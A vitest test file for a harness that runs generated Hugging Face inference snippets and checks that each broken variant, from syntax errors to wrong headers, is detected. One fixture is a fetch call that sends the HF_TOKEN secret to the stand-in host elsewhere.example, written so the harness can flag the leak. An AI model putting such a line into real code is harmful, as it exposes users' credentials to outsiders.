/** Runs broken programs of every kind. Each failure must be detected and must name the file to open. */
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { testWith } from "../../testing/test-with.ts";
import { matrixPrograms } from "./matrix-programs.ts";
import type { Program } from "./program.ts";
import { isGood, type Outcome, prove, proveAgain } from "./prove.ts";
import { describeFailure } from "./report/print.ts";

const [good] = matrixPrograms({ provider: "hf-inference", task: "text-classification", client: "fetch" });
const [shell] = matrixPrograms({ provider: "hf-inference", task: "text-classification", client: "curl" });
if (!good || !shell) throw new Error("The matrix has no such snippet.");

const work = mkdtempSync(join(tmpdir(), "callsheet-prove-"));
afterAll(() => rmSync(work, { recursive: true }));

const changed = (from: string | RegExp, to: string, program: Program = good): string => {
    const content = program.content.replace(from, to);
    if (content === program.content) throw new Error(`${from} does not stand in the program.`);
    return content;
};

const host = "router.huggingface.co";

/** What is broken, the program, and a pattern of the expected problem. */
const broken: readonly (readonly [string, string, RegExp])[] = [
    ["does not parse", changed("await fetch", "await await ("), /^exit: the program ended with code 1: SyntaxError/m],
    ["sends nothing", "console.log('Done');", /^requests: nothing was sent$/m],
    ["reads another variable", changed("HF_TOKEN", "OPENAI_API_KEY"), /^headers.authorization: expected "Bearer hf_/m],
    ["does not log in", changed(/Authorization: .*,/, ""), /^headers.authorization: .* received nothing$/m],
    ["lets another pay", changed("headers: {", 'headers: { "X-HF-Bill-To": "x",'), /^headers.x-hf-bill-to/m],
    ["says another type", changed("application/json", "text/plain"), /^headers.content-type/m],
    ["asks another model", changed("/models/", "/models/x"), /^url: expected/m],
    ["sends something else", changed("inputs:", "input:"), /^body.input: expected nothing, received/m],
    ["sends it twice", `${good.content}await fetch(url, { method: "POST" });`, /is one more than the call$/m],
    ["asks a stranger", changed(host, "elsewhere.example"), /leaks: a token was sent to elsewhere\.example/m],
    [
        "gives a stranger its token",
        `${good.content}await fetch("https://elsewhere.example/", { headers: { authorization: process.env.HF_TOKEN } });`,
        /elsewhere\.example\/ carries the token of HF_TOKEN/m,
    ],
    ["prints nothing", changed(/console\.\w+\(.*\);/, ""), /^output: printed ""$/m],
    [
        "does not wait",
        changed("await response.json()", "response.json()"),
        /^output: printed "Promise { <pending> }"$/m,
    ],
    [
        "prints something else",
        changed("await response.json()", "response"),
        /^output: printed nothing of the response/m,
    ],
    ["leaves a file", `import fs from "node:fs";\nfs.writeFileSync("x", "");\n${good.content}`, /^output: saved x/m],
    ["leaves a folder", `import fs from "node:fs";\nfs.mkdirSync("x");\n${good.content}`, /^output: saved x,/m],
    [
        "leaves a file at home",
        `import fs from "node:fs";\nfs.writeFileSync(process.env.HOME + "/x", "");\n${good.content}`,
        /^output: saved ~\/x,/m,
    ],
    [
        "fails, and leaves a file",
        `import fs from "node:fs";\nfs.writeFileSync("x", "");\nprocess.exit(3);\n${good.content}`,
        /^output: left x$/m,
    ],
    [
        "prints what must never show",
        `${good.content}console.error("never");`,
        /^output: printed never: a text was run/m,
    ],
];

const outcomes = new Map<string, Outcome>();

beforeAll(async () => {
    const programs = broken.map(([name, content]) => ({
        ...good,
        id: `verify/project/${name}`,
        content,
        never: /never/,
    }));
    const fails = changed("curl ", "curl --no-such-option ", shell);
    const all = [
        good,
        shell,
        ...programs,
        { ...shell, id: "test/shell", content: fails },
        { ...good, id: "test/python", language: "python" as const },
        { ...good, id: "test/token", environment: { HF_TOKEN: "hf_another" } },
    ];
    const python = { missing: "not needed here" };
    for (const outcome of await prove(all, { work, python })) outcomes.set(outcome.program.id, outcome);
});

const expectPassed = (id: string) => expect(outcomes.get(id)?.problems).toEqual([]);
test(`${good.id} passes`, () => expectPassed(good.id));
testWith("curl")(`${shell.id} passes`, () => expectPassed(shell.id));

test.each(broken)("a program that %s", (name, _, problem) => {
    const outcome = outcomes.get(`verify/project/${name}`);
    if (!outcome) throw new Error("It was not run.");
    const message = describeFailure(outcome);
    expect(
        message
            .split("\n")
            .map((line) => line.trim())
            .join("\n"),
    ).toMatch(problem);
    expect(message).toContain(`failed  verify/project/${name}`);
    expect(message).toContain("open packages/snippets/src/languages/js/fetch.ts");
});

test("a token of a program's own is expected in the place of the others'", () => {
    expect(outcomes.get("test/token")?.problems).toEqual([]);
});

test("a program whose language is missing is not run, which is a failure where nobody reads why", () => {
    const outcome = outcomes.get("test/python");
    expect(outcome?.notRun).toBe("not needed here");
    expect(outcome && [isGood(outcome, false), isGood(outcome, true)]).toEqual([true, false]);
});

testWith("curl")("a command that fails", () => {
    expect(outcomes.get("test/shell")?.problems[0]?.message).toMatch(/^the program ended with code 2: curl: /);
});

test("what has failed is run again: what passes then has passed, and what fails twice has failed", async () => {
    const mark = JSON.stringify(join(work, "mark"));
    const firstFails = `import fs from "node:fs";
if (!fs.existsSync(${mark})) {
    fs.writeFileSync(${mark}, "");
    process.exit(1);
}
${good.content}`;
    const programs = [
        { ...good, id: "test/hurried", content: firstFails },
        { ...good, id: "test/broken", content: "process.exit(1);" },
        good,
    ];
    const seen = await proveAgain(programs, { work, python: { missing: "not needed here" } });
    expect(seen.map((outcome) => [outcome.program.id, isGood(outcome)])).toEqual([
        ["test/hurried", true],
        ["test/broken", false],
        [good.id, true],
    ]);
});
